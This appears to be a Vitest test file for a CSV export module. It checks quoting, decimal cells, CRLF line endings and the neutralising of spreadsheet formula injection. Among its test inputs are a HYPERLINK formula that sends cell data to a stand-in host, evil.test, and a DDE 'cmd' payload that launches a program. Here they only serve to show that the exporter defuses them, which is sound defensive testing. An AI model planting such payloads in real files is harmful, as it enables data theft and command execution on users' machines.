import { describe, expect, it } from "vitest";
import { csvField, decimalCell, toCsv } from "./csv";

describe("csvField", () => {
  it("writes plain text as it is", () => {
    expect(csvField("Invoice INV-2026-11-0001")).toBe("Invoice INV-2026-11-0001");
    expect(csvField("")).toBe("");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
  });

  it("quotes a field holding a comma, a double quote, CR or LF and doubles its quotes", () => {
    expect(csvField("Cheque 1042, second")).toBe('"Cheque 1042, second"');
    expect(csvField('The "big" one')).toBe('"The ""big"" one"');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("two\r\nlines")).toBe('"two\r\nlines"');
    expect(csvField('"')).toBe('""""');
  });

  it.each([
    [
      '=HYPERLINK("http://evil.test?x="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.test?x=""&A1,""Click"")"`,
    ],
    ["=1+2", "'=1+2"],
    ["+1", "'+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1", "'\t=1"],
    ["\r=1", `"'\r=1"`],
  ])("neutralizes a text cell that a spreadsheet would run: %j", (text, written) => {
    expect(csvField(text)).toBe(written);
  });

  it("leaves a formula character alone when it is not the first", () => {
    expect(csvField("Transfer A=B")).toBe("Transfer A=B");
    expect(csvField(" =1")).toBe(" =1");
    expect(csvField("12-50")).toBe("12-50");
  });

  it("keeps numbers and the program's own decimals numeric, negative ones too", () => {
    expect(csvField(-12.5)).toBe("-12.5");
    expect(csvField(0)).toBe("0");
    expect(csvField(decimalCell("-12.50"))).toBe("-12.50");
    expect(csvField(decimalCell("1234"))).toBe("1234");
    // The same text as a plain string is text a person typed: it is neutralized.
    expect(csvField("-12.50")).toBe("'-12.50");
  });

  it("refuses to mark anything but a plain decimal number as numeric", () => {
    for (const text of ["-2+3", "=1", "1e5", "12.", ".5", "1,000.00", " 1", "", "--1"]) {
      expect(() => decimalCell(text)).toThrow(RangeError);
    }
    expect(() => csvField(Number.NaN)).toThrow(RangeError);
    expect(() => csvField(Number.POSITIVE_INFINITY)).toThrow(RangeError);
  });

  it("keeps unicode text intact", () => {
    expect(csvField("Card payment (Visa •••• 4242)")).toBe("Card payment (Visa •••• 4242)");
    expect(csvField("Überweisung «Zürich» 東京 🎉")).toBe("Überweisung «Zürich» 東京 🎉");
    expect(csvField("−5")).toBe("−5");
  });
});

describe("toCsv", () => {
  it("ends every record with CRLF, the last one too", () => {
    const csv = toCsv([
      ["Date", "Description", "Balance"],
      ["2026-11-01", "Invoice INV-2026-11-0001, November", decimalCell("120.00")],
      ["2026-11-03", "=cmd|' /C calc'!A0", decimalCell("-0.50")],
    ]);
    expect(csv).toBe(
      "Date,Description,Balance\r\n" +
        '2026-11-01,"Invoice INV-2026-11-0001, November",120.00\r\n' +
        "2026-11-03,'=cmd|' /C calc'!A0,-0.50\r\n",
    );
  });

  it("writes nothing for no records, and a byte order mark only when asked", () => {
    expect(toCsv([])).toBe("");
    expect(toCsv([["a"]], { byteOrderMark: true })).toBe("\uFEFFa\r\n");
    expect(toCsv([["a"]])).toBe("a\r\n");
  });
});
